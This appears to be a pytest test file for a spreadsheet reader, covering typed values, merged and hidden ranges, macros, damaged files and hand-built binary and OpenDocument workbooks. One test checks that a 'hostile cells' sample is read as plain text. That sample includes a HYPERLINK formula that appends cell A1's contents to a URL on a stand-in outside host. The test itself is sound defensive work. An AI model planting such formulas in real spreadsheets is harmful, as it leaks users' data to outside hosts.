"""Reading workbooks: values with their types, merged ranges, hidden parts, what calamine hides."""

import struct
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.chartsheet import Chartsheet

from list_files import changed_zip, read_here, sample, zip_of
from lmdesk.domain.problem import Problem, Severity
from lmdesk.domain.sheet import MergedRange
from lmdesk.errors import LmdeskError
from lmdesk.formats.biff import BookFacts, book_facts
from lmdesk.formats.limits import Limits

SHEET = "xl/worksheets/sheet1.xml"


def saved(path: Path, cells: dict[str, Any], **book: Any) -> Path:
    workbook = openpyxl.Workbook()
    for place, value in cells.items():
        workbook.active[place] = value
    workbook.save(path)
    return path


def test_values_come_typed_from_row_one_and_column_a(tmp_path: Path) -> None:
    path = saved(
        tmp_path / "a.xlsx",
        {"C3": "Name", "D3": 84912345678, "C5": True, "D5": date(2026, 5, 1), "E5": 1.5},
    )

    (sheet,) = read_here(path).sheets

    assert sheet.name == "Sheet"
    assert [list(row) for row in sheet.rows] == [
        [],
        [],
        ["", "", "Name", 84912345678, ""],
        [],
        ["", "", True, date(2026, 5, 1), 1.5],
    ]
    assert type(sheet.rows[2][3]) is int


def test_blank_rows_and_columns_at_the_end_are_dropped(tmp_path: Path) -> None:
    path = saved(tmp_path / "a.xlsx", {"A1": "Name", "B2": "x", "F9": ""})
    book = openpyxl.load_workbook(path)
    book.active["H20"].font = openpyxl.styles.Font(bold=True)
    book.save(path)

    assert [list(row) for row in read_here(path).sheets[0].rows] == [["Name", ""], ["", "x"]]


def test_merged_ranges_count_from_zero(tmp_path: Path) -> None:
    path = saved(tmp_path / "a.xlsx", {"A1": "List", "B3": "Laos"})
    book = openpyxl.load_workbook(path)
    book.active.merge_cells("B3:B5")
    book.active.merge_cells("A1:D1")
    book.save(path)

    assert read_here(path).sheets[0].merged == (MergedRange(0, 0, 0, 3), MergedRange(2, 1, 4, 1))


def test_hidden_rows_and_columns_are_found(tmp_path: Path) -> None:
    path = saved(tmp_path / "a.xlsx", {"A1": "x", "F9": "y"})
    book = openpyxl.load_workbook(path)
    for row in (3, 7):
        book.active.row_dimensions[row].hidden = True
    book.active.column_dimensions.group("C", "D", hidden=True)
    book.save(path)

    sheet = read_here(path).sheets[0]

    assert (sheet.hidden_rows, sheet.hidden_columns) == (frozenset({3, 7}), frozenset({2, 3}))


def test_sample_13_shows_hidden_parts_formulas_and_errors() -> None:
    read = read_here(sample("13"))

    assert read.sheets[0].hidden_rows == {7, 12, 15, 17, 22}
    assert read.sheets[0].hidden_columns == {4, 10}
    assert read.problems == (
        Problem(
            "formula_without_value",
            None,
            Severity.WARN,
            {"sheet": "Sheet1", "count": 25, "cells": "B2, B3, B4, B5, B6 …"},
        ),
        Problem(
            "error_cells",
            None,
            Severity.WARN,
            {"sheet": "Sheet1", "count": 2, "cells": "H7 #N/A, G13 #REF!"},
        ),
    )


def test_marks_are_found_under_any_prefix_and_beyond_the_first_block(tmp_path: Path) -> None:
    def prefixed(data: bytes) -> bytes:
        rows = b"".join(
            b'<x:row r="%d"%s><x:c r="A%d"><x:v>%s</x:v></x:c></x:row>'
            % (row, b' hidden="true"' if row % 9000 == 0 else b"", row, b"1" * 90)
            for row in range(1, 20_000)
        )
        broken = b'<x:row r="20000"><x:c r="A20000"><x:f>A1</x:f></x:c></x:row>'
        return (
            b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<x:sheetData>" + rows + broken + b"</x:sheetData></x:worksheet>"
        )

    path = changed_zip(sample("01"), tmp_path / "a.xlsx", {SHEET: prefixed})

    read = read_here(path)

    assert read.sheets[0].hidden_rows == {9000, 18000}
    assert [dict(problem.params)["cells"] for problem in read.problems] == ["A20000"]


def test_sheet_without_row_ends_is_searched_too(tmp_path: Path) -> None:
    path = changed_zip(
        sample("01"),
        tmp_path / "a.xlsx",
        {SHEET: lambda data: data.replace(b"<sheetData>", b" " * (10 << 20) + b"<sheetData>")},
    )

    assert len(read_here(path).sheets[0].rows) == 61


def test_broken_list_of_sheets_is_damage_and_not_an_empty_workbook(tmp_path: Path) -> None:
    path = changed_zip(
        sample("01"),
        tmp_path / "a.xlsx",
        {"xl/workbook.xml": lambda data: data.replace(b"<sheets>", b"<sheets><")},
    )

    with pytest.raises(LmdeskError, match="file_damaged"):
        read_here(path)


def test_book_that_cannot_be_searched_is_still_read(tmp_path: Path) -> None:
    path = changed_zip(
        sample("13"), tmp_path / "a.xlsx", {"xl/_rels/workbook.xml.rels": lambda data: data + b"<"}
    )

    read = read_here(path)

    assert len(read.sheets[0].rows) == 25
    assert (read.sheets[0].hidden_rows, read.problems) == (frozenset(), ())


def test_sheet_whose_part_is_missing_is_damage(tmp_path: Path) -> None:
    path = changed_zip(
        sample("01"),
        tmp_path / "a.xlsx",
        {"xl/_rels/workbook.xml.rels": lambda data: data.replace(b"sheet1.xml", b"sheet9.xml")},
    )

    with pytest.raises(LmdeskError, match="file_damaged"):
        read_here(path)


def test_sheet_above_the_limit_is_not_searched() -> None:
    read = read_here(sample("13"), limits=Limits(marks_bytes=1000))

    assert (read.sheets[0].hidden_rows, read.problems) == (frozenset(), ())
    assert len(read.sheets[0].rows) == 25


def test_date_system_of_an_old_workbook_is_known() -> None:
    read = read_here(sample("04"))

    assert (read.container, read.date_1904) == ("xls", True)
    assert read.sheets[0].rows[1][1] == date(2026, 4, 2)
    assert read.sheets[0].rows[4][5] == 13123450119
    assert read.sheets[0].merged == (MergedRange(0, 0, 0, 10),)


@pytest.mark.parametrize("value", ["1", "true"])
def test_date_system_of_a_new_workbook_is_known(tmp_path: Path, value: str) -> None:
    path = saved(tmp_path / "a.xlsx", {"A1": "x"})
    changed = changed_zip(
        path,
        tmp_path / "b.xlsx",
        {
            "xl/workbook.xml": lambda data: data.replace(
                b"<workbookPr ", b'<workbookPr date1904="' + value.encode() + b'" '
            )
        },
    )

    assert not read_here(path).date_1904
    assert read_here(changed).date_1904


def test_libreoffice_list_with_a_million_repeated_blank_rows_is_short() -> None:
    read = read_here(sample("11"))

    assert [(sheet.name, len(sheet.rows)) for sheet in read.sheets] == [
        ("Teilnehmer", 27),
        ("Legende", 1),
    ]
    assert read.container == "ods"


def test_hidden_sheets_are_named_and_charts_passed_over(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = "x"
    chart = book.create_chartsheet("Chart")
    assert isinstance(chart, Chartsheet)
    for name, state in (("Old", "hidden"), ("_lists", "veryHidden")):
        book.create_sheet(name).sheet_state = state
    book.save(tmp_path / "a.xlsx")

    read = read_here(tmp_path / "a.xlsx")

    assert [sheet.name for sheet in read.sheets] == ["Sheet", "Old"]
    assert read.problems == (
        Problem("sheet_hidden", None, Severity.WARN, {"sheet": "Old"}),
        Problem("sheet_left_out", None, Severity.INFO, {"sheet": "_lists"}),
    )


def test_macros_are_named_and_never_run(tmp_path: Path) -> None:
    path = changed_zip(sample("01"), tmp_path / "a.xlsm", {"xl/vbaProject.bin": lambda _: b"x"})

    assert read_here(path).problems == (Problem("has_macros", None, Severity.WARN, {}),)


def test_header_alone_and_an_empty_sheet_are_no_damage() -> None:
    read = read_here(sample("24"))

    assert [(sheet.name, len(sheet.rows)) for sheet in read.sheets] == [
        ("Participants", 1),
        ("Empty", 0),
    ]


def test_hostile_cells_are_texts_like_any_other() -> None:
    rows = read_here(sample("23_hostile_cells.xlsx")).sheets[0].rows

    assert rows[1][2] == '=HYPERLINK("http://example.org/?x="&A1,"click")'
    assert rows[11][2] == "Direc\x0btor\x07"
    assert rows[24][2] == "_x000D_ Director _x0041_"


@pytest.mark.parametrize(
    "parts",
    [
        {"xl/workbook.xml": b"no xml"},
        {"xl/workbook.bin": b"\x00\x01"},
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a"},
    ],
)
def test_workbook_that_calamine_cannot_open_is_damaged(
    tmp_path: Path, parts: dict[str, bytes]
) -> None:
    with pytest.raises(LmdeskError, match="file_damaged"):
        read_here(zip_of(tmp_path / "a.xlsx", parts))


def test_sheet_that_calamine_cannot_read_is_damaged(tmp_path: Path) -> None:
    path = changed_zip(
        sample("01"), tmp_path / "a.xlsx", {SHEET: lambda data: data[: len(data) // 2]}
    )

    with pytest.raises(LmdeskError, match="file_damaged"):
        read_here(path)


def record(kind: int, data: bytes = b"") -> bytes:
    """Return one record of a binary workbook, [MS-XLSB] 2.1.4."""
    name = bytes([kind]) if kind < 128 else bytes([kind & 0x7F | 0x80, kind >> 7])
    assert len(data) < 128
    return name + bytes([len(data)]) + data


def wide(text: str) -> bytes:
    return len(text).to_bytes(4, "little") + text.encode("utf-16-le")


def binary_workbook(path: Path, cells: bytes) -> Path:
    """Make an .xlsb whose one sheet has these cells in its first row."""
    main = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = '<Relationship Id="{}" Type="{}/{}" Target="{}"/>'.format
    start = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    book = link("rId1", main, "worksheet", "worksheets/sheet1.bin")
    sheet = bytes(8) + wide("rId1") + wide("List")
    row = bytes(8) + b"\x2c\x01" + bytes(7)
    return zip_of(
        path,
        {
            "xl/_rels/workbook.bin.rels": f"{start}{book}</Relationships>".encode(),
            "xl/workbook.bin": b"".join(
                [record(131), record(143), record(156, sheet), record(144), record(132)]
            ),
            "xl/worksheets/sheet1.bin": b"".join(
                [
                    record(129),
                    record(148, bytes(16)),
                    record(145),
                    record(0, row),
                    cells,
                    record(146),
                    record(130),
                ]
            ),
        },
    )


NUMBER = record(5, bytes(8) + struct.pack("<d", 84912345678))
TEXT = record(6, bytes([1, 0, 0, 0]) + bytes(4) + wide("Vanhone"))


def test_binary_workbook_without_a_single_text_is_suspected(tmp_path: Path) -> None:
    read = read_here(binary_workbook(tmp_path / "a.xlsb", NUMBER))

    assert read.container == "xlsb"
    assert [list(row) for row in read.sheets[0].rows] == [[84912345678]]
    assert read.problems == (Problem("texts_missing", None, Severity.ERROR, {}),)


def test_binary_workbook_is_read(tmp_path: Path) -> None:
    read = read_here(binary_workbook(tmp_path / "a.xlsb", NUMBER + TEXT))

    assert [list(row) for row in read.sheets[0].rows] == [[84912345678, "Vanhone"]]
    assert read.problems == ()


def with_first_record(kind: int) -> bytes:
    """Turn the record after the opening one of the .xls sample into another kind."""
    data = bytearray(sample("04").read_bytes())
    opening = data.find(b"\x09\x08\x10\x00\x00\x06\x05\x00")
    data[opening + 20 : opening + 22] = kind.to_bytes(2, "little")
    return bytes(data)


def test_old_workbook_with_a_password_is_called_protected(tmp_path: Path) -> None:
    path = tmp_path / "a.xls"
    path.write_bytes(with_first_record(0x2F))

    with pytest.raises(LmdeskError, match="file_protected"):
        read_here(path)
    with pytest.raises(LmdeskError, match=r"password_wrong|password_unsupported|file_damaged"):
        read_here(path, password="x")


@pytest.mark.parametrize(
    ("data", "facts"),
    [
        (b"", BookFacts()),
        (b"\x09\x08\x10\x00\x00\x06\x05\x00", BookFacts()),
        (b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(100), BookFacts()),
        (with_first_record(0x0A), BookFacts()),
        (with_first_record(0x2F), BookFacts(protected=True)),
    ],
)
def test_walk_over_records_ends_wherever_it_must(data: bytes, facts: BookFacts) -> None:
    assert book_facts(data) == facts


def test_merged_cells_and_hidden_parts_of_an_open_document_are_found(tmp_path: Path) -> None:
    path = tmp_path / "a.ods"
    cell = '<table:table-cell office:value-type="string"{}><text:p>{}</text:p></table:table-cell>'
    covered = "<table:covered-table-cell/>"
    hidden = '<table:table-row table:visibility="{}">{}</table:table-row>'
    wide, high = (f' table:number-{way}-spanned="2"' for way in ("columns", "rows"))
    rows = [
        f"<table:table-row>{cell.format(wide, 'T')}{covered}</table:table-row>",
        f'<table:table-row table:number-rows-repeated="2">{cell.format("", "x")}</table:table-row>',
        f"<table:table-row>{cell.format(high, 'a')}{cell.format('', 'b')}</table:table-row>",
        hidden.format("collapse", covered + cell.format("", "c")),
        hidden.format("filter", cell.format("", "d")),
    ]
    columns = '<table:table-column/><table:table-column table:visibility="collapse"/>'
    write_open_document(path, f'<table:table table:name="S">{columns}{"".join(rows)}</table:table>')

    sheet = read_here(path).sheets[0]

    assert sheet.merged == (MergedRange(0, 0, 0, 1), MergedRange(3, 0, 4, 0))
    assert (sheet.hidden_rows, sheet.filtered_rows) == (frozenset({5, 6}), frozenset({6}))
    assert sheet.hidden_columns == {1}


def write_open_document(path: Path, tables: str) -> None:
    """Write the least that is an .ods file with these tables."""
    names = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{names}:office:1.0"'
        f' xmlns:table="{names}:table:1.0" xmlns:text="{names}:text:1.0"><office:body>'
        f"<office:spreadsheet>{tables}</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        f'<manifest:manifest xmlns:manifest="{names}:manifest:1.0"><manifest:file-entry'
        f' manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>'
    )
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("mimetype", kind)
        book.writestr("content.xml", content)
        book.writestr("META-INF/manifest.xml", manifest)
